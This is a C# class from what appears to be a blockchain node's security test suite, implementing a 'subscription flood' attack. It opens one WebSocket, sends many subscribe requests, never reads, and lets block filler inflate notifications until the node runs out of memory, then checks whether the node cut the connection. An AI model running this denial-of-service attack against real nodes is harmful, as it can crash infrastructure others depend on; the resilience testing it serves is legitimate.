using System.Net.WebSockets;
using System.Text;

namespace Agora.Testing.Attacks;

/// <summary>
/// Finding 2: one WebSocket that subscribes as often as the node lets it (to events and new heads, alternately) and
/// never reads, while <see cref="BlockFiller"/> makes every block's events large. A node that copies each notification
/// per subscription and queues without a byte bound grows until it runs out of memory. At the end the attack reads
/// what is left to learn whether the node cut it off.
/// </summary>
public sealed class SubscriptionFloodAttack : Attack
{
    /// <summary>Subscribe requests sent on the one connection.</summary>
    public int SubscribeCount { get; init; } = 1024;

    /// <summary>The block filler that makes notifications large.</summary>
    public BlockFiller Filler { get; init; } = new();

    /// <inheritdoc />
    public override string Name => "subscription-flood";

    /// <inheritdoc />
    public override async Task<AttackReport> RunAsync(AttackTarget target, CancellationToken stop)
    {
        ArgumentNullException.ThrowIfNull(target);
        using var socket = new ClientWebSocket();
        await socket.ConnectAsync(target.WebSocketUrl, stop);
        for (var i = 0; i < SubscribeCount; i++)
        {
            var method = i % 2 == 0 ? "agora_subscribeEvents" : "chain_subscribeNewHeads";
            var request = Encoding.UTF8.GetBytes($"{{\"jsonrpc\":\"2.0\",\"id\":{i},\"method\":\"{method}\",\"params\":[]}}");
            try
            {
                await socket.SendAsync(request, WebSocketMessageType.Text, endOfMessage: true, stop);
            }
            catch (Exception e) when (e is WebSocketException or OperationCanceledException)
            {
                break;
            }
        }

        var filled = await Filler.RunAsync(target, stop);
        var (cutOff, received, closeReason) = await DrainAsync(socket);
        return new AttackReport(Name, new Dictionary<string, long>
        {
            ["subscribe_requests"] = SubscribeCount,
            ["filler_transfers"] = filled,
            ["cut_off"] = cutOff ? 1 : 0,
            ["bytes_read_after"] = received,
        }, closeReason is null ? [] : [$"closed by the node: {closeReason}"]);
    }

    /// <summary>Reads for a few seconds: a close frame or a reset means the node cut this consumer off.</summary>
    private static async Task<(bool CutOff, long Received, string? Reason)> DrainAsync(ClientWebSocket socket)
    {
        var buffer = new byte[64 * 1024];
        long received = 0;
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(5));
        try
        {
            while (true)
            {
                var result = await socket.ReceiveAsync(buffer, deadline.Token);
                if (result.MessageType == WebSocketMessageType.Close)
                {
                    return (true, received, $"{socket.CloseStatus} {socket.CloseStatusDescription}");
                }

                received += result.Count;
            }
        }
        catch (WebSocketException e)
        {
            return (true, received, e.Message);
        }
        catch (OperationCanceledException)
        {
            return (false, received, null);
        }
    }
}
